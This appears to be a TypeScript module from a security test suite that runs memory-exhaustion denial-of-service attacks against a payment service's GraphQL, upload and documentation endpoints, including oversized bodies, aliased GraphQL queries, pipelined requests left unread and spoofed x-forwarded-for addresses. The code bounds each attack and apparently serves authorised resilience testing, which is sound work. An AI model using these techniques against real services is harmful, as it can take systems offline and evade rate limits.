import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Agent } from 'undici';
import { longestScript } from '../../support/portal-assets.js';
import type { HostName } from '../case.js';
import { times } from './attacker.js';

/*
 * Attacks on memory with queued requests, retained data and unread responses. Each is bounded in number and time, and ends early
 * if its target stops responding.
 */

/**
 * Target of an attack, and the credentials of the attackers: the token of one account, and sessions of accounts that have only
 * confirmed their address.
 */
export interface Victim {
  urls: Readonly<Record<HostName, string>>;
  tokens: Readonly<Record<'uat' | 'production', string>>;
  sessions: readonly string[];
}

/** Number of responses with each status; `none`: the connection closed without a response. */
export type Statuses = Record<string, number>;

const RESPONSE_LIMIT_MS = 60_000;
const KIB = 1_024;

const count = (statuses: Statuses, status: string): void => void (statuses[status] = (statuses[status] ?? 0) + 1);

/** Address of the n-th attacker of a crowd. */
const addressOf = (n: number): string => `203.${n % 100}.${(n >> 8) % 256}.${n % 256}`;

interface Posted {
  path: string;
  contentType: string;
  body: Buffer;
  token?: string | undefined;
}

const headOf = (url: URL, { path, contentType, body, token }: Posted, n: number): string =>
  [
    `POST ${path} HTTP/1.1`,
    `host: ${url.host}`,
    `x-forwarded-for: ${addressOf(n)}`,
    `content-type: ${contentType}`,
    `content-length: ${body.length}`,
    ...(token === undefined ? [] : [`authorization: Bearer ${token}`]),
    'connection: close',
    '',
    '',
  ].join('\r\n');

/** Sends one request on its own connection; all requests share the body. Resolves with the first line of the response. */
function post(base: string, posted: Posted, statuses: Statuses, n: number): Promise<void> {
  const url = new URL(base);
  return new Promise((resolve) => {
    let status = 'none';
    const socket = connect(Number(url.port), url.hostname);
    socket.setTimeout(RESPONSE_LIMIT_MS, () => socket.destroy());
    socket.on('error', () => {});
    socket.once('data', (bytes) => {
      status = /^HTTP\/1\.1 (\d+)/.exec(bytes.toString('latin1'))?.[1] ?? 'none';
      socket.destroy();
    });
    socket.once('close', () => {
      count(statuses, status);
      resolve();
    });
    socket.write(headOf(url, posted, n));
    socket.write(posted.body);
  });
}

/** GraphQL of this many bytes. One character outside Latin-1 makes each character take two bytes in the memory of the service. */
export function longDocument(bytes: number): Buffer {
  const [prefix, suffix] = ['{"query":"{__typename} #€', '"}'];
  const rest = bytes - Buffer.byteLength(prefix + suffix);
  return Buffer.from(prefix + 'x'.repeat(rest) + suffix);
}

/** Many anonymous callers send a body at the same time. */
export async function longBodies(victim: Victim, host: HostName, number: number, bytes: number): Promise<Statuses> {
  const statuses: Statuses = {};
  const posted: Posted = { path: '/graphql', contentType: 'application/json', body: longDocument(bytes) };
  await times(number, number, (n) => post(victim.urls[host], posted, statuses, n));
  return statuses;
}

const UPLOAD = 'mutation($input: UploadKycDocumentInput!) { uploadKycDocument(input: $input) { documentId } }';
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * A file in base64, as in a GraphQL upload. Its name has a character outside Latin-1, so each character takes two bytes in
 * memory.
 */
export function fileInJson(bytes: number): Buffer {
  const file = Buffer.alloc(bytes, 'x');
  PNG.copy(file);
  const input = {
    kind: 'pan_card',
    fileName: 'pan €.png',
    contentType: 'image/png',
    contentBase64: file.toString('base64'),
  };
  return Buffer.from(JSON.stringify({ query: UPLOAD, variables: { input } }));
}

/** The same file as a form. */
export function fileInForm(bytes: number): { body: Buffer; contentType: string } {
  const boundary = `b${randomBytes(8).toString('hex')}`;
  const file = Buffer.alloc(bytes, 'x');
  PNG.copy(file);
  const part = (header: string): string => `--${boundary}\r\ncontent-disposition: form-data; ${header}\r\n\r\n`;
  const body = Buffer.concat([
    Buffer.from(`${part('name="kind"')}pan_card\r\n`),
    Buffer.from(part('name="file"; filename="pan.png"\r\ncontent-type: image/png')),
    file,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { body, contentType: `multipart/form-data; boundary=${boundary}` };
}

/** Concurrent uploads by signed-in users of each account in turn; none starts after the limit. */
export async function uploads(
  victim: Victim,
  form: 'JSON' | 'multipart',
  { number, atOnce, bytes, limitMs }: { number: number; atOnce: number; bytes: number; limitMs: number },
): Promise<Statuses> {
  const statuses: Statuses = {};
  const posted =
    form === 'JSON'
      ? { path: '/graphql', contentType: 'application/json', body: fileInJson(bytes) }
      : { path: '/kyc/documents', ...fileInForm(bytes) };
  const end = performance.now() + limitMs;
  await times(number, atOnce, async (n) => {
    if (performance.now() > end) return;
    const token = victim.sessions[n % victim.sessions.length];
    await post(victim.urls.console, { ...posted, token }, statuses, n);
  });
  return statuses;
}

/** Makes documents unique, also compared with earlier runs on the same database. */
const run = randomBytes(4).toString('hex');
let created = 0;
export const serial = (): string => `${run}${++created}`;

/** The same field fourteen times, with fourteen aliases. */
export function aliasedDocument(): string {
  const name = serial();
  return `{${Array.from({ length: 14 }, (_, n) => `n${name}x${n}:me{id name}`).join(' ')}}`;
}

/** A short text with many values, each of which is a node of the document. */
export function documentOfKeys(): string {
  const name = serial();
  const keys = (alias: number): string =>
    Array.from({ length: 50 }, (_, n) => `"${name}${String.fromCharCode(97 + alias)}${n}"`).join(' ');
  return `{${Array.from({ length: 14 }, (_, n) => `k${n}:ordersByKey(kind:RECHARGE,clientRequestIds:[${keys(n)}]){status}`).join(' ')}}`;
}

/** A hand-written recharge with its values in the text. */
export function rechargeInText(): string {
  const name = serial();
  return `mutation{recharge(input:{accountNumber:"9876543210",amount:1,operatorSpKey:116,operatorType:MOBILE,clientRequestId:"text-${name}"}){order{status}}}`;
}

/** Different documents, each sent several times with a maximum concurrency; none starts after the limit. */
export async function documents(
  victim: Victim,
  host: 'uat' | 'production',
  make: () => string,
  { number, repeated, atOnce, limitMs }: { number: number; repeated: number; atOnce: number; limitMs: number },
): Promise<Statuses> {
  const statuses: Statuses = {};
  const agent = new Agent({ connections: atOnce, headersTimeout: RESPONSE_LIMIT_MS, bodyTimeout: RESPONSE_LIMIT_MS });
  const end = performance.now() + limitMs;
  const send = async (body: string): Promise<void> => {
    try {
      const response = await agent.request({
        origin: victim.urls[host],
        path: '/graphql',
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'x-forwarded-for': addressOf(9),
          authorization: `Bearer ${victim.tokens[host]}`,
        },
        body,
      });
      await response.body.dump();
      count(statuses, String(response.statusCode));
    } catch {
      count(statuses, 'none');
    }
  };
  await times(number, atOnce, async () => {
    const body = JSON.stringify({ query: make() });
    for (let left = repeated; left > 0 && performance.now() < end; left--) await send(body);
  });
  await agent.destroy();
  return statuses;
}

/** Long responses that anonymous callers can fetch. */
const LONG_RESPONSES: Readonly<Record<HostName, readonly string[]>> = (() => {
  const introspection = `/graphql?query=${encodeURIComponent('{__schema{types{name description fields{name description args{name type{name}}}}}}')}`;
  const api = ['/docs/viewer.js', '/openapi.json', '/docs', '/docs/reference', '/schema.graphql'];
  return {
    uat: [...api, longestScript(), introspection],
    production: api,
    console: [longestScript(), '/schema.graphql', introspection],
  };
})();

/**
 * Fetches each resource once, so that the process has built the data for its first use. For the guides this takes a tenth of a
 * second.
 */
export async function fetchOnce(urls: Victim['urls'], host: HostName): Promise<void> {
  for (const path of LONG_RESPONSES[host]) await (await fetch(`${urls[host]}${path}`)).arrayBuffer();
}

const PIPELINED = 4;

/** Connections that send requests and read nothing. */
export class UnreadResponses {
  readonly #sockets: Socket[] = [];

  /**
   * Every second connection requests the longest text. Each sends four requests without waiting, followed by the given number of
   * short ones. Resolves when all have sent their requests or were rejected.
   */
  async open(
    urls: Victim['urls'],
    host: HostName,
    number: number,
    { behind = 0, addresses = number }: { behind?: number; addresses?: number } = {},
  ): Promise<void> {
    const url = new URL(urls[host]);
    const paths = LONG_RESPONSES[host];
    const request = (n: number): string => {
      const path = n % 2 === 0 ? paths[0]! : paths[(n >> 1) % paths.length]!;
      const head = ` HTTP/1.1\r\nhost: ${url.host}\r\nx-forwarded-for: ${addressOf(n % addresses)}\r\n\r\n`;
      return `GET ${path}${head}`.repeat(PIPELINED) + `GET /x${head}`.repeat(behind);
    };
    await times(
      number,
      number,
      (n) =>
        new Promise<void>((resolve) => {
          const socket = connect(Number(url.port), url.hostname);
          this.#sockets.push(socket);
          // otherwise the first bytes are read before they are needed
          socket.pause();
          socket.on('error', () => {});
          socket.once('close', () => resolve());
          socket.write(request(n), () => resolve());
        }),
    );
  }

  /** Keeps the connections open until the limit or the condition. */
  async hold(limitMs: number, isOver: () => boolean): Promise<void> {
    const end = performance.now() + limitMs;
    while (performance.now() < end && !isOver()) await sleep(100);
  }

  /** Closes all connections. `held`: not rejected immediately; a client that reads nothing does not notice the end either. */
  close(): Statuses {
    const statuses: Statuses = {};
    for (const socket of this.#sockets) {
      count(statuses, socket.destroyed ? 'refused' : 'held');
      socket.destroy();
    }
    return statuses;
  }
}

/** Number of short requests that fit into a single read of a socket by Node. */
export const MOST_IN_ONE_READ = 700;
export const LARGEST_BODY_BYTES = 64 * KIB;
/** Largest body that every caller may send. */
export const SMALL_BODY_BYTES = 8 * KIB - 1;
/** In base64 this is a body of 7 MB. */
export const LARGEST_FILE_BYTES = 5 * KIB * KIB;
